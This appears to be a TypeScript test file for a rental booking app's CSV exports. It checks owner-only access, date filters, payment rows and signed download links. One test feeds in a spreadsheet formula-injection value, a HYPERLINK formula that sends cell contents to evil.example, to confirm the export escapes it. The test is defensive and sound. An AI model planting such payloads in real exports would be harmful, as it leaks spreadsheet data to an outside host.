import { describe, expect } from 'vitest'
import { signedAddress } from '../../../src/integrations/exports/reader.ts'
import { inDays, type TestApp, test } from '../../support/app.ts'
import { book, scene, stay } from '../../support/booking.ts'
import { close } from '../../support/calendars.ts'
import { change, changeable, documentsOf } from '../../support/changes.ts'
import { exported, readCsv } from '../../support/exports.ts'
import { settle, show } from '../../support/payments.ts'

const RESERVATIONS = '/exports/reservations.csv'

/** Two owners, each with a home and a booked stay. */
async function owners(t: TestApp) {
  const mine = await scene(t, { title: 'Mine' })
  const theirs = await scene(t, { title: 'Theirs' })
  const booked = (await book(t, mine.guest, stay(mine.home, 30))).body.data
  await t.deliver(t.pay(booked.payment_url))
  await book(t, theirs.guest, stay(theirs.home, 30))
  return { mine, theirs, id: String(booked.reservation_id) }
}

describe('stays', () => {
  test('are those of the owner’s homes, as a file', async ({ t }) => {
    const { mine, id } = await owners(t)
    const { status, headers, rows } = await exported(t, mine.owner, RESERVATIONS)
    expect([status, headers['content-type'], headers['content-disposition']]).toEqual([
      200,
      'text/csv; charset=utf-8; header=present',
      'attachment; filename="reservations.csv"',
    ])
    expect(rows).toMatchObject([
      {
        ...{ id, property_id: mine.home, property_title: 'Mine', status: 'confirmed', source: 'direct' },
        ...{ check_in: inDays(30), check_out: inDays(33), nights: '3', adults: '2', guests: '2' },
        ...{ guest_id: String(mine.guest.id), guest_name: 'Ada Lovelace', currency: 'EUR', payment_status: 'paid' },
        ...{ total: expect.stringMatching(/^\d+\.\d\d$/), amount_open: '0.00', cancelled_at: '' },
      },
    ])
  })

  test('of others are seen by nobody but the staff', async ({ t }) => {
    const { mine, theirs } = await owners(t)
    const homes = async (user: typeof mine.owner, query = '') =>
      (await exported(t, user, RESERVATIONS + query)).rows.map(({ property_title }) => property_title)
    expect(await homes(mine.owner)).toEqual(['Mine'])
    expect(await homes(mine.owner, `?property_id=${theirs.home}`)).toEqual([])
    expect(await homes(mine.guest)).toEqual([])
    expect((await exported(t, undefined, RESERVATIONS)).status).toBe(401)
    const support = await t.user({ role: 'support' })
    expect(await homes(support, `?property_id=${theirs.home}`)).toEqual(['Theirs'])
  })

  test('are kept by the days that they touch', async ({ t }) => {
    const { mine } = await owners(t)
    const count = async (from: number, to: number) =>
      (await exported(t, mine.owner, `${RESERVATIONS}?from=${inDays(from)}&to=${inDays(to)}`)).rows.length
    expect([await count(0, 29), await count(0, 30), await count(33, 40), await count(34, 40)]).toEqual([0, 1, 1, 0])
    const wrong = await exported(t, mine.owner, `${RESERVATIONS}?from=${inDays(2)}&to=${inDays(1)}`)
    expect([wrong.status, wrong.body.errors]).toEqual([400, { to: [{ code: 'date_range' }] }])
  })

  test('with hostile names are read by another program as they are, and run nothing', async ({ t }) => {
    const title = `=HYPERLINK("http://evil.example?x="&A1,"é, ""x""")`
    const { owner, home, guest } = await scene(t, { title })
    await t.db`update users set first_name = '@SUM(1)', last_name = E'a\n"b", c' where id = ${guest.id}`
    await book(t, guest, stay(home, 30))
    const { body } = await t.call('GET', RESERVATIONS, undefined, owner)
    const columns = readCsv(body).flatMap((row) => Object.keys(row))
    // PostgreSQL reads CSV with a parser of its own.
    const read = await t.db.begin(async (tx) => {
      await tx.unsafe(`create temp table read (${columns.map((name) => `${name} text`).join()}) on commit drop`)
      const into = await tx.unsafe('copy read from stdin (format csv, header match)').writable()
      await new Promise<void>((resolve, reject) => {
        into.on('error', reject).on('finish', resolve).end(body)
      })
      return tx`select property_title, guest_name, guests from read`
    })
    expect(read).toEqual([{ property_title: `'${title}`, guest_name: `'@SUM(1) a\n"b", c`, guests: '2' }])
  })
})

test('payments say what has come in and gone back, by the day on which they were made out', async ({ t }) => {
  const { mine, id } = await owners(t)
  const read = async (query: string) => (await exported(t, mine.owner, `/exports/payments.csv${query}`)).rows
  expect(await read(`?from=${inDays(0)}&to=${inDays(0)}`)).toMatchObject([
    {
      ...{ reservation_id: id, property_id: mine.home, kind: 'booking', status: 'paid', currency: 'EUR' },
      ...{ refunded: '0.00', due_on: '', paid_at: expect.stringMatching(/^\d{4}-\d\d-\d\dT.*Z$/) },
    },
  ])
  expect([await read(`?from=${inDays(1)}`), await read(`?to=${inDays(-1)}`)]).toEqual([[], []])
})

test('payments have a row each, with the seller who got the money, after a change that corrects documents', async ({
  t,
}) => {
  const { owner, home, id } = await changeable(t)
  const seller = { name: 'Marco Rossi', vat_percent: 10, prefix: 'ROSSI' }
  const { body } = await t.call('POST', '/sellers', seller, owner)
  await t.call('PUT', `/properties/${home}`, { seller_id: body.data.id }, owner)
  expect((await change(t, owner, id, { adults: 1, price: 'keep' })).status).toBe(200)
  await settle(t)
  expect((await documentsOf(t, id)).map(([kind]) => kind)).toEqual(['invoice', 'invoice', 'credit_note', 'invoice'])
  const { payments } = await show(t, owner, id)
  const { rows } = await exported(t, owner, '/exports/payments.csv')
  expect(rows.map((row) => [row.id, row.seller])).toEqual(
    payments.map((payment: { id: number }) => [String(payment.id), 'Séjour']),
  )
  const [stay] = (await exported(t, owner, RESERVATIONS)).rows
  expect([stay?.paid, rows.reduce((sum, { amount }) => sum + Number(amount), 0)]).toEqual(['458.00', 458])
})

test('calendars say what their owner sees, home after home', async ({ t }) => {
  const { mine, theirs } = await owners(t)
  const other = await t.home(mine.owner, { title: 'Other', base_price: 80 })
  await close(t, mine.owner, mine.home, 33, 33, '-painting')
  const path = `/exports/calendar.csv?from=${inDays(32)}&to=${inDays(33)}`
  const { rows } = await exported(t, mine.owner, path)
  const seen = rows.map(({ property_id, date, status, price, reason }) => [property_id, date, status, price, reason])
  expect(seen.toSorted()).toEqual(
    [
      [mine.home, inDays(32), 'reserved', '100.00', ''],
      [mine.home, inDays(33), 'closed', '100.00', "'-painting"],
      [other, inDays(32), 'available', '80.00', ''],
      [other, inDays(33), 'available', '80.00', ''],
    ].toSorted(),
  )
  expect(rows.filter(({ property_id }) => property_id === theirs.home)).toEqual([])
  const whole = await exported(t, mine.owner, '/exports/calendar.csv')
  expect(whole.rows).toHaveLength(2 * 91)
  expect((await exported(t, mine.owner, `/exports/calendar.csv?from=2026-01-01&to=2029-01-01`)).status).toBe(400)
})

describe('a signed address', () => {
  test('opens its export without a token, with its filter and no other', async ({ t }) => {
    const { mine, id } = await owners(t)
    const body = { export: 'reservations', from: inDays(30), to: inDays(31) }
    const made = await t.call('POST', '/exports', body, mine.owner)
    expect(made.status).toBe(201)
    const url: string = made.body.data.url.replace('http://sejour.test/api/v1', '')
    expect((await exported(t, undefined, url)).rows).toMatchObject([{ id }])
    const changed = [
      url.replace(`from=${inDays(30)}`, `from=${inDays(1)}`),
      url.replace(`&to=${inDays(31)}`, ''),
      url.replace(/account=\d+/, 'account=1'),
      url.replace(/expires=(\d)/, 'expires=9$1'),
      url.replace('reservations.csv', 'payments.csv'),
      `${url}x`,
    ]
    for (const other of changed) {
      const refused = await exported(t, undefined, other)
      expect([other, refused.status, refused.body.code]).toEqual([other, 403, 'link_expired'])
    }
  })

  test('ends with its time, and with the tokens of its account', async ({ t }) => {
    const { owner } = await scene(t)
    const made = await t.call('POST', '/exports', { export: 'payments' }, owner)
    const url: string = made.body.data.url.replace('http://sejour.test/api/v1', '')
    expect((await exported(t, undefined, url)).status).toBe(200)
    await t.db`update users set token_version = token_version + 1 where id = ${owner.id}`
    expect((await exported(t, undefined, url)).status).toBe(403)
    const ended = { userId: owner.id, personId: owner.id, tokenVersion: 2, grant: null }
    const past = Math.floor(Date.now() / 1_000) - 1
    const before = signedAddress(t.app, 'exportPayments', ended, {}, past).replace('http://sejour.test/api/v1', '')
    const now = signedAddress(t.app, 'exportPayments', ended, {}, past + 60).replace('http://sejour.test/api/v1', '')
    expect([(await exported(t, undefined, before)).status, (await exported(t, undefined, now)).status]).toEqual([
      403, 200,
    ])
  })
})
